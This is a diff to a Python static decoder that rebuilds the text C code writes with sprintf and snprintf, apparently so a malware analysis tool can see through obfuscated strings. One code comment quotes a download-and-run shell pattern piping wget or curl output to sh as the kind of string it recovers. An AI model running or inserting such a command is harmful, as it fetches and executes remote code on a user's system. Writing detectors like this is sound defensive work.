@@ -532,6 +532,12 @@ class StaticDecoder:
                                         for a in args):
                 continue
             _, last, obj = self.m.callee(call)
+            if last in ("sprintf", "snprintf") and text(args[0]).lstrip("&( ").rstrip(") ") == name:
+                # snprintf(cmd, n, "(wget -qO- %s || curl -s %s) | sh", URL, URL): the formatted text
+                got = self._formatted(args[2 if last == "snprintf" else 1:], fn, depth)
+                if got is not None:
+                    return got
+                continue
             kind, key = self.k.kind_of.get(last), None
             if kind in (None, "same", "chars") and last in self.m.functions:
                 summary = self._summarise(self.m.functions[last])
@@ -582,6 +588,37 @@ class StaticDecoder:
         return None
 
 
+    def _formatted(self, args: list[Node], fn: Node, depth: int) -> Decoded | None:
+        """A C format and its arguments, all constants: the text printf would write."""
+        if not args:
+            return None
+        fmt = literal(args[0], self.spec)
+        if fmt is None:
+            return None
+        values = []
+        for a in args[1:9]:
+            v = self.value(a, fn, depth + 1)
+            if v is not None:
+                values.append(v.text)
+                continue
+            n = self._number(a)
+            if n is None:
+                return None
+            values.append(str(n))
+        out, i = [], 0
+        for m in _C_CONVERSION.finditer(fmt):
+            out.append(fmt[i:m.start()])
+            i = m.end()
+            if m.group(0) == "%%":
+                out.append("%")
+            elif not values:
+                return None
+            else:
+                out.append(values.pop(0))
+        out.append(fmt[i:])
+        data = "".join(out).encode("latin-1", "replace")
+        return Decoded(data, ()) if len(data) <= MAX_DATA else None
+
     def _indexed_loop(self, loop: Node, name: str, depth: int) -> Decoded | None:
         """C: ``for (i = 0; ...; i++) name[i] = EXPR;`` where EXPR combines constant arrays indexed by
         ``i``, ``i`` itself and numbers (a rolling XOR ``k[i] ^ 0x46 ^ (i & 0xff)``, an added index):
@@ -625,6 +662,7 @@ class StaticDecoder:
         return None
 
 
+_C_CONVERSION = re.compile(r"%%|%[-+ #0]*\d*(?:\.\d+)?(?:hh|h|ll|l|z|j|t)?[sdiuxXc]")
 _ARITH = {"^": lambda a, b: a ^ b, "+": lambda a, b: a + b, "-": lambda a, b: a - b, "&": lambda a, b: a & b,
           "|": lambda a, b: a | b, "*": lambda a, b: a * b, "<<": lambda a, b: a << (b & 31),
           ">>": lambda a, b: a >> (b & 31), "%": lambda a, b: a % b if b else None}
